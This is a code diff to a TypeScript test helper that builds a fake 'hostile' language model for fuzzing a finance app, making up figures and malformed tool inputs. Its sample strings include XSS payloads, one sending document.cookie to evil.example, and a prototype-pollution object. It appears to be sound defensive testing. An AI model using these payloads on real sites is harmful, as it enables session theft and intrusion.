@@ -21,11 +21,22 @@ const sentences: ((random: () => number) => string)[] = [
   () => 'That makes fi**ve** thous\u200band dollars and `se``ven` cents.',
   () => 'You owe ５００ dollars, ①, ½, Ⅻ, ٣ and ৫.',
   () => 'It is &#49;&#48;&#48; or &#x35; dollars.',
-  (random) => `You own [[f${Math.floor(random() * 30)}]] and [[n${Math.floor(random() * 6)}]].`,
-  () => 'You own [[f1]] and $[[f2]] and [[f3]] dollars.',
-  () => 'You own -[[f1]], [[f2]]k, [[f3]] million, [[f1]]% and [[f1]]*[[f2]].',
-  (random) => `You own [[f${Math.floor(random() * 9)}]]000 and -[[f1]]5.`,
-  () => 'You own [[f1]] and [[constructor]] and [[__proto__]] and [[ f2 ]].',
+  (random) => `You own [[f${Math.floor(random() * 30)}]] and [[s${Math.floor(random() * 6)}.months]].`,
+  () =>
+    'You own [[profile.savings]] and $[[profile.income]] and [[debt1.amount]] dollars at [[debt1.rate]]%.',
+  () => 'You save [[total.savings]] and earn $85,000, about $85k, and owe $4,000 on the Visa 4521.',
+  () =>
+    'You own -[[profile.savings]], [[profile.savings]]k, [[debt1.amount]] million and [[debt1.rate]]*[[debt1.rate]].',
+  (random) => `You own [[debt1.amount]]000 and -[[profile.savings]]${Math.floor(random() * 9)}.`,
+  () => 'You own [[profile.savings]] and [[constructor]] and [[__proto__]] and [[ profile.savings ]].',
+  (random) =>
+    `Save ${Math.round(random() * 50)} months, ${Math.round(random() * 9)} years and ${Math.round(random() * 12)} months, or ${Math.round(random() * 40)}x.`,
+  (random) =>
+    `The 15-year mortgage, the W-4 and Chapter 7 cost ${Math.round(random() * 500)} each in ${2020 + Math.round(random() * 20)}.`,
+  () => '| Plan | Cost |\n|---|---|\n| Fast | $1,234 |\n| Slow | [[debt1.amount]] |\n',
+  () => '\nQ: Shall I move 5,000 now?\n',
+  () => '\n[[card:s1]] [[card:s99]]\n',
+  () => 'El saldo sube a cinco mil, y baja luego poco despacio hacia nada.',
   () => '<data value="f1">$9,999</data> is yours.',
   () => '<script>alert(document.cookie)</script>',
   () => '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">',
@@ -44,6 +55,15 @@ const sentences: ((random: () => number) => string)[] = [
   () => '$ % € . ! ? ... *** ___ ** ** [[ ]] [[f1',
 ]
 
+/** One answer of such a model. */
+export function writeHostile(random: () => number): string {
+  const count = 1 + Math.floor(random() * 8)
+  return Array.from(
+    { length: count },
+    () => `${sentences[Math.floor(random() * sentences.length)]?.(random)} `,
+  ).join('')
+}
+
 /** A model that invents figures, sends HTML, calls tools with whatever it likes and tries to have things stored. */
 export function createHostileModel(random: () => number): LanguageModel {
   const pick = <Item>(items: readonly Item[]) => items[Math.floor(random() * items.length)]
@@ -58,10 +78,20 @@ export function createHostileModel(random: () => number): LanguageModel {
         { debts: [{ name: `You owe ${amount()}`, amount: 1, interestRate: 2 }], budget: { total: amount() } },
         { what: 'income', value: amount(), quote: words.slice(0, 20) },
         { what: 'asset', value: 12_000, quote: words },
-        { what: 'liability', value: 12_000, quote: 'I owe 12,000 to the mob' },
+        { what: 'debt', value: 12_000, quote: 'I owe 12,000 to the mob' },
+        { what: 'end', target: 'debt1', quote: words.slice(0, 9) },
+        { quote: words.slice(0, 30), reason: 'supposed' },
+        { question: 'q1', reply: 'yes', quote: words.slice(0, 12) },
+        { question: 'q1', reply: 'yes', quote: 'yes, all of it' },
+        { balance: 'said"9,999"', rate: 'assume 5', payment: 'debt1.amount / 12' },
+        { balance: 'debt1.amount * 1000', rate: '99', payment: '1' },
+        { expression: 'debt1.amount * 7 + 13', label: 'You owe 999' },
+        { expression: 'debt1.amount / 12 - profile.savings', label: 'Left' },
+        { for: 'rule', words: 'limit 401k' },
+        { for: 'sum', words: 's1' },
         { userId: 1, isAdmin: true, __proto__: { polluted: true } },
       ]
-      pick(tools)?.run(pick(inputs))
+      pick(random() < 0.5 ? tools.slice(0, 6) : tools)?.run(pick(inputs))
     }
   }
   return {
